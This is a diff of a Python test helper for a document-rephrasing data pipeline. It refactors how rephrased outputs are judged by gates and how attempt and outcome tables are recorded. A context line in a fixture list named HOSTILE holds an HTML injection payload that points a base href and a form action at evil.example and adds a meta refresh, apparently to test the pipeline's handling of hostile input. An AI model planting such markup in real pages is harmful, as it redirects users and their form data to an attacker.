@@ -33,10 +33,12 @@ from pipelines.tally import DROPPED_SCHEMA
 from raters.base import Rater, sidecar_rows
 from raters.composite import CompositeRater, CompositeSettings, fit_composite, read_composite
 from raters.signals import NaturalSignals
-from rephrase.attempts import ATTEMPT_SCHEMA
+from rephrase.attempts import ATTEMPT_SCHEMA, OUTCOME_SCHEMA
 from rephrase.fidelity import words
-from rephrase.gates.judging import Limits, Task, judge
-from rephrase.generator import Generation
+from rephrase.gates.instruments import NO_INSTRUMENTS
+from rephrase.gates.judging import Passage, judge
+from rephrase.generator import Answer, Generation
+from rephrase.style import load_style
 from trainer_hooks.curves import step_learning_rates
 from trainer_hooks.plan import Plan
 from trainer_hooks.resolution import resolve
@@ -63,6 +65,7 @@ HOSTILE = [
         "<!-- --> <base href=https://evil.example> <form action=//evil.example><meta http-equiv=refresh content=0>",
     ),
 ]
+GENERATOR = {"model": "smollm2-135m-instruct", "weights": "0123abcd", "engine": "vllm"}
 FILLER = " The rest of this page is an ordinary text about how a thing works and why it was made that way."
 MODEL = {"vocabulary": 4096, "layers": 2, "width": 64}
 ARMS = {
@@ -95,7 +98,12 @@ def make_workspace(root: Path, *, arms: Sequence[str] = ("shuffled", "ascending"
 
 
 def artifact(
-    root: Path, name: str, kind: str, make: Callable[[Path], dict[str, Any]], config: Mapping[str, Any] | None = None
+    root: Path,
+    name: str,
+    kind: str,
+    make: Callable[[Path], dict[str, Any]],
+    config: Mapping[str, Any] | None = None,
+    inputs: Sequence[Artifact] = (),
 ) -> Artifact:
     """Write one artifact whose files `make` leaves in its folder."""
     identity = fingerprint({"name": name, "config": dict(config or {})})
@@ -108,7 +116,7 @@ def artifact(
         name=name,
         fingerprint=identity,
         config=dict(config or {}),
-        inputs=[],
+        inputs=[made.ref for made in inputs],
         parts=parts,
         totals=totals,
     )
@@ -227,66 +235,66 @@ def _split(root: Path, filtered: Artifact) -> tuple[Artifact, Artifact]:
 def _rephrased(root: Path, clean: Artifact) -> Artifact:
     rows = read_table(clean.files()[0]).to_pylist()
     chosen = rows[:14] + [row for row in rows if "evil.example" in row["text"]]
-    attempts, made = [], []
-    for i, row in enumerate(chosen):
-        source = row["text"][:900]
-        said = words(source)
-        output = (
-            " ".join([*said[: 40 - 2 * (i % 3)], "which", "means", *reversed(said[20:])]) + "."
-            if i % 4
-            else "I'm sorry. " + source[:300]
-        )
-        task = Task(source, "", "", "text", lambda text: len(text.split()))
-        verdict = judge(Generation(output, "stop", 200, 150), task, Limits())
-        kept = verdict.reason is None
+    outputs = [
+        _reworded(row["text"][:900], i) if i % 4 else "I'm sorry. " + row["text"][:300] for i, row in enumerate(chosen)
+    ]
+    return make_rephrased(root, chosen, [[Generation(text, "stop", 200, 150)] for text in outputs])
+
+
+def _reworded(source: str, i: int) -> str:
+    said = words(source)
+    return " ".join([*said[: 40 - 2 * (i % 3)], "which", "means", *reversed(said[20:])]) + "."
+
+
+def make_rephrased(
+    root: Path, rows: Sequence[Mapping[str, Any]], answers: Sequence[Sequence[Answer]], style: str = "medium",
+    meta: Mapping[str, str] | None = None, inputs: Sequence[Artifact] = (),
+) -> Artifact:  # fmt: skip
+    """The artifact `rephrased` of documents whose first 900 characters were sent once for each of their answers.
+
+    The gates judge for real, a short tail of each document is not sent, and the last answer is the one that counts.
+    """
+    given = load_style(style)
+    attempts, outcomes, made = [], [], []
+    for row, tried in zip(rows, answers, strict=True):
+        passage = Passage(row["text"][:900], "en", lambda text: len(text.split()))
+        verdicts = [judge(answer, passage, given, NO_INSTRUMENTS) for answer in tried]
+        about = {"parent_id": row["id"], "style": style, "n_chunks": 1, "step": "", "hard_split": False}
+        for number, (answer, verdict) in enumerate(zip(tried, verdicts, strict=True)):
+            said = answer if isinstance(answer, Generation) else None
+            attempts.append(
+                {
+                    **about, "chunk_index": 0, "attempt": number, "superseded": number < len(tried) - 1, "start": 0,
+                    "end": len(passage.source), "n_in": said and said.n_in, "n_out": said and said.n_out,
+                    "finish_reason": said and said.finish_reason, "gates": list(verdict.values.items()),
+                    "reason": verdict.reason, "source_text": passage.source, "output_text": verdict.text,
+                }
+            )  # fmt: skip
         attempts.append(
-            {
-                "parent_id": row["id"],
-                "style": "medium",
-                "chunk_index": 0,
-                "n_chunks": 1,
-                "start": 0,
-                "end": len(source),
-                "hard_split": False,
-                "n_in": 200,
-                "n_out": 150,
-                "finish_reason": "stop",
-                "gates": list(verdict.values.items()),
-                "reason": verdict.reason,
-                "source_text": source,
-                "output_text": verdict.text,
-            }
+            {**about, "superseded": False, "start": 900, "end": 906, "reason": "short_segment", "source_text": "a tail"}
         )
-        if kept or i % 4 == 1:
+        reason = verdicts[-1].reason
+        outcomes.append(
+            {"parent_id": row["id"], "style": style, "n_chunks": 1, "n_kept": int(reason is None),
+             "kept_share": float(reason is None), "reason": reason}
+        )  # fmt: skip
+        if reason is None:
             made.append(
                 {
-                    "id": document_id("wrap", row["id"]),
-                    "text": verdict.text,
-                    "source": "wrap/medium",
-                    "parent_id": row["id"],
-                    "style": "medium",
-                    "generator": "smollm2-135m-instruct",
+                    "id": document_id(given.source, row["id"]), "text": verdicts[-1].text, "source": given.source,
+                    "parent_id": row["id"], "style": style, "generator": "smollm2-135m-instruct@0123abcd",
+                    "meta": {"request_hash": given.request_hash(), **(meta or {})},
                 }
-            )
-    attempts.append(
-        {
-            "parent_id": chosen[0]["id"],
-            "style": "medium",
-            "n_chunks": 1,
-            "start": 900,
-            "end": 910,
-            "hard_split": False,
-            "reason": "too_short",
-            "source_text": "a tail",
-        }
-    )
+            )  # fmt: skip
 
     def make(folder: Path) -> dict[str, Any]:
         write_table(folder / f"{WRAP}.parquet", documents(made))
-        write_table(folder / "attempts" / "wrap-medium.parquet", pa.Table.from_pylist(attempts, ATTEMPT_SCHEMA))
-        return {"records_in": len(chosen), "kept": len(made), "dropped": {}}
+        for name, table, schema in (("attempts", attempts, ATTEMPT_SCHEMA), ("outcomes", outcomes, OUTCOME_SCHEMA)):
+            write_table(folder / name / f"{WRAP}.parquet", pa.Table.from_pylist(table, schema))
+        return {"records_in": len(rows), "kept": len(made), "dropped": {}}
 
-    return artifact(root, "rephrased", "documents", make)
+    config = {"styles": [given.model_dump(mode="json")], "generator": GENERATOR}
+    return artifact(root, "rephrased", "documents", make, config, inputs)
 
 
 def _tokens(root: Path, name: str, shards: Mapping[str, Artifact]) -> Artifact:
